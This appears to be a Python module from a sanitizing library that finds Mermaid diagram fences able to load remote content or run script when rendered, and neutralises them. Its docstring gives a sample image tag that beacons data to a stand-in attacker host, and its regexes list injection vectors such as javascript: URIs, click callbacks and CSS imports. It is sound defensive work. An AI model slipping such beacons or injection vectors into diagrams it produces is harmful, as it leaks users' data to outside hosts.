r"""Diagrams that renderers draw from what stands in a fence, Mermaid's. One that would load or run something is shown as code.

    ```mermaid                                ->  ```mer-maid
    graph TD
    A["<img src='https://evil.example/?d=…'>"]

JupyterLab, GitHub, GitLab and chat programs draw Mermaid; nbconvert puts what stands in such a fence into its page as HTML. Nobody
can draw a diagram before its end, so the fence is held back and judged as a whole. What its small languages (YAML, JSON, CSS, HTML)
make of an escape is in doubt, so one of theirs is taken for the worst.

Sources: Mermaid 11 (directives, image shapes, interaction, themes); nbconvert 7, `block_mermaidjs`; THREATS O.1, O.2.
"""

# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import html
import re
from typing import Final

from safellm._core.neutral import tex
from safellm._core.neutral.addresses import Judge
from safellm._core.neutral.tags import Verdict, is_whole, judge_tag

_INDENT: Final = 3  # more before marks and they end no fence that stands by itself
LONGEST: Final = 8192  # characters of a fence that is judged; a longer one is taken for the worst

_WORDS: Final = ("mermaid", "Mermaid", "MERMAID")
_CUT_WORD = re.compile(r"[A-Za-z]+\Z")
_OPENING = re.compile(r"(`{3,}|~{3,}|:{3,})[^\r\n`]*?(?<![\w-])(mermaid|Mermaid|MERMAID)")
# The same anywhere in a text, or what may become it.
NAMED = re.compile(
    r"(?:`{3}|~{3})[^\r\n`]*?(?<![\w-])(?:mermaid|Mermaid|MERMAID"
    r"|(?:m(?:e(?:r(?:m(?:a(?:i)?)?)?)?)?|M(?:e(?:r(?:m(?:a(?:i)?)?)?)?|E(?:R(?:M(?:A(?:I)?)?)?)?)?)\Z)"
)
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_SCRIPT = re.compile(r"(?:java|vb|live)[\t\r\n]*script[\t\r\n]*:(?=\S)|data:[a-z]+/|data:[,;]", re.IGNORECASE)
# A click that runs a function of the page; one that opens an address has it in quotes.
_CALLS = re.compile(r"(?:^|;)[ \t]*(?:click[ \t]+\S+[ \t]+(?!href[ \t]|[\"'])\S|callback[ \t]+\S)", re.MULTILINE)
_STYLE = re.compile(r"themeCSS|@import|image-set|expression\(|(?<![\w-])image\(|url\((?![ \t]*[\"']?#)", re.IGNORECASE)
# Escapes of JSON and YAML anywhere; any escape where a style or a setting stands.
_ESCAPE = re.compile(
    r"\\(?:u[0-9A-Fa-f]{4}|x[0-9A-Fa-f]{2}|U[0-9A-Fa-f]{8})|^[ \t]*(?:style|classDef|linkStyle)\b[^\r\n]*\\",
    re.MULTILINE,
)
_SETTINGS = re.compile(r"%%\{(?:(?!\}%%).)*|@\{[^}]*|\A\s*---[ \t]*\n(?:(?!\n---).)*", re.DOTALL)
_ADDRESS = re.compile(r"(?:https?:[/\\]*|(?<!:)[/\\]{2})[^\s\"'`<>)\]}|/\\][^\s\"'`<>)\]}|]*", re.IGNORECASE)
_QUOTE = re.compile(r"^[ \t]*(?:> ?)+", re.MULTILINE)


def may_hold_json(data: bytes) -> bool:
    """Return whether the bytes of a JSON text may hold such a diagram, quickly."""
    return b"ermaid" in data or b"ERMAID" in data


def opened(text: str, at: int, end: int) -> re.Match[str] | None:
    """Return how a line opens such a fence, or None: its marks, and where the word stands that names its language."""
    return _OPENING.match(text, at, end)


def word_begins(text: str, at: int) -> int:
    """Return where the word begins that names the language of such a fence, or may once the line goes on; else the text's end."""
    found = opened(text, at, len(text))
    if found is not None:
        return found.start(2)
    cut = _CUT_WORD.search(text, at)
    return cut.start() if cut is not None and any(one.startswith(cut[0]) for one in _WORDS) else len(text)


def end_of(text: str, at: int, before: str, marks: str) -> int:
    """Return where the line begins that ends a fence for every renderer; negative if there is none by now.

    Args:
        text: From the beginning of the fence's first line on, as much of it as is judged.
        at: Behind what stands before the fence on that line.
        before: What stands there.
        marks: That opened it.
    """
    deepest = max(_INDENT, len(before.expandtabs(4)))
    ends = rf"[\r\n][ >]{{0,{deepest}}}{re.escape(marks[0])}{{{len(marks)},}}[ \t]*(?=[\r\n])"
    found = re.compile(ends).search(text, at)
    return -1 if found is None else found.start()


def is_harmful(body: str, judge: Judge) -> bool:
    """Return whether a fence loads or runs something when it is drawn, or has a link that hides something.

    Args:
        body: What stands in it.
        judge: Decides about addresses.
    """
    if any(tex.is_harmful(body, one, judge, body[: one.start()]) for one in tex.COMMAND.finditer(body)):
        return True
    said = html.unescape(html.unescape(_QUOTE.sub("", body)))
    if any(one.search(said) is not None for one in (_ESCAPE, _STYLE, _SCRIPT, _CALLS)):
        return True
    for tag in _TAG.finditer(said):
        if judge_tag(said, tag.start(), judge, last=True)[0] is not Verdict.PASS or not is_whole(said, tag.start()):
            return True
    settings = _SETTINGS.findall(said)
    if any("\\" in one or any(not judge.may_fetch(found) for found in _ADDRESS.findall(one)) for one in settings):
        return True
    return any(not judge.may_link(found, "") for found in _ADDRESS.findall(said))
